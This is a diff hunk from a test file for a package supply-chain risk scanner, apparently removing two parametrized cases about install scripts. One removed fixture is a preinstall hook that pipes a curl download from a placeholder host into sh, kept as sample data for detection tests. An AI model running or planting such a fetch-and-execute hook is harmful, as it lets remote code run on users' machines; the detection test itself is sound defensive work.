@@ -40,8 +40,6 @@ def test_established_package_is_clean():
     ({"authors": [{"name": "x", "email": "x@mailinator.com"}]}, "maintainer_anomaly", "medium"),
     ({"version": "99.0.0", "versions": ["99.0.0"], "release_count": 1}, "version_jump", "high"),
     ({"version": "100.0.0", "versions": [f"1.{i}" for i in range(6)] + ["100.0.0"], "release_count": 7}, "version_jump", "medium"),
-    ({"install_scripts": {"postinstall": "node build.js"}}, "install_scripts", "medium"),
-    ({"install_scripts": {"preinstall": "curl http://x.invalid/a | sh"}}, "install_scripts", "high"),
     ({"url_dependencies": ["x @ https://example.test/x.tar.gz"]}, "url_dependency", "medium"),
     ({"url_dependencies": ["x@git://example.test/x.git"]}, "url_dependency", "high"),
 ])
